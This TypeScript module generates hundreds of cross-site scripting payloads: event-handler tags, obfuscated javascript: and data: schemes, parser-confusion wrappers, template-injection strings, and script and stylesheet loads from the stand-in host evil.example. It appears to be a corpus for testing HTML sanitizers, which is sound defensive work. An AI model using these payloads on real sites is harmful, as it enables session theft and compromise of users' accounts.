/** Markup that means harm, in some hundreds of shapes. */
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const carriers = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'a href=#',
  'iframe',
  'object data=x',
  'math',
  'form',
];
const quotes: readonly (readonly [string, string])[] = [
  ['"', '"'],
  ["'", "'"],
  ['', ''],
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'data:text/html,',
  'data:text/html;base64,',
  'vbscript:',
  'livescript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:',
  'filesystem:',
  'file:///',
  'chrome://',
  'app://',
  'ms-settings:',
];
const places = [
  'a href',
  'area href',
  'iframe src',
  'form action',
  'object data',
  'embed src',
  'link rel=stylesheet href',
  'base href',
  'img src',
  'svg><a xlink:href',
];
const whole = (harm: string): readonly string[] => [
  `<script>${harm}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${harm}</scr</script>ipt>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style><img src=x onerror=${harm}></style>`,
  `<noscript><p title="</noscript><img src=x onerror=${harm}>">`,
  `<template><script>${harm}</script></template>`,
  `<svg><style><img src=x onerror=${harm}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${harm}>`,
  `<textarea><img src=x onerror=${harm}></textarea>`,
  `<title><img src=x onerror=${harm}></title>`,
  `<xmp><img src=x onerror=${harm}></xmp>`,
  `<plaintext><img src=x onerror=${harm}>`,
  `<!--><img src=x onerror=${harm}>-->`,
  `<![CDATA[<img src=x onerror=${harm}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${harm}</x:script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${harm}">`,
  `<div style="background:url(javascript:${harm})">words</div>`,
  `<div style="behavior:url(#default#time2)">words</div>`,
  `<table background="javascript:${harm}"><tr><td>words</td></tr></table>`,
  `<iframe srcdoc="<script>${harm}</script>"></iframe>`,
  `<p>{{constructor.constructor('${harm}')()}}</p>`,
  `<p>\${${harm}}</p>`,
  `<a href="https://good.example/" target=_blank rel="" onclick="${harm}">words</a>`,
  `<select><option><style></option></select><img src=x onerror=${harm}></style>`,
];

/** Every shape, running `harm` where it gets to run. */
export function markupVectors(harm: string): readonly string[] {
  return [
    ...whole(harm),
    ...carriers.flatMap((carrier, index) =>
      events.map((event, place) => {
        const [open, close] = quotes[(index + place) % quotes.length] ?? ['"', '"'];
        return `<${carrier} ${event}=${open}${harm}${close}>words</${carrier.split(' ')[0]}>`;
      }),
    ),
    ...places.flatMap((place) =>
      schemes.map((scheme) => `<${place}="${scheme}${harm}">words</${place.split(' ')[0]}>`),
    ),
  ];
}
